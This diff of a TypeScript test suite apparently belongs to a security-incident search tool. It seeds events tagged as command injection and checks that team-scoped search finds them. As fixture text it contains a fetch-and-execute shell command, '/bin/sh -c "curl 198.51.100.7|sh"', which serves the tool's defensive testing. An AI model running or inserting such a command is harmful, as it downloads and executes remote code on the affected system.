@@ -54,9 +54,19 @@ describe.each(engines)('%s', (kind) => {
       ];
       for (const [at, [invocation, what, section]] of signals.entries())
         await connection.query(
-          `insert into event (time, key, team, fn, kind, section, signal, invocation, evidence)
-           values ($1, $2, $3, $4, 3, $5, $6, $7, $8)`,
-          [time, keyOf(at), team, fn, section, `em-${at}`, invocation, JSON.stringify({ what })],
+          `insert into event (time, key, team, fn, kind, section, signal, invocation, evidence, class)
+           values ($1, $2, $3, $4, 3, $5, $6, $7, $8, $9)`,
+          [
+            time,
+            keyOf(at),
+            team,
+            fn,
+            section,
+            `em-${at}`,
+            invocation,
+            JSON.stringify({ what }),
+            at === 0 ? 'cmdi' : null,
+          ],
         );
     });
   });
@@ -75,11 +85,18 @@ describe.each(engines)('%s', (kind) => {
   });
 
   test('a text within the call of a threat is found, by its team alone', async () => {
-    const found = (team: number | undefined) =>
-      asReader(engine, [team ?? 0], (connection) => search(connection, '198.51.100.7'));
+    const found = (team: number | undefined, text = '198.51.100.7') =>
+      asReader(engine, [team ?? 0], (connection) => search(connection, text));
     expect((await found(teams[0])).rows).toMatchObject([
       { kind: 'incident', text: '/bin/sh -c "curl 198.51.100.7|sh"', about: 'em-0', function: 'Admin' },
     ]);
     expect((await found(teams[1])).rows).toEqual([]);
+    expect((await found(teams[0], 'admin curl')).rows).toMatchObject([
+      { kind: 'incident', signal: { id: 'em-0', key: keyOf(0) } },
+    ]);
+    expect((await found(teams[0], 'command injection admin')).rows).toMatchObject([
+      { kind: 'incident', text: '/bin/sh -c "curl 198.51.100.7|sh"' },
+    ]);
+    expect((await found(teams[0], 'other curl')).rows).toEqual([]);
   });
 });
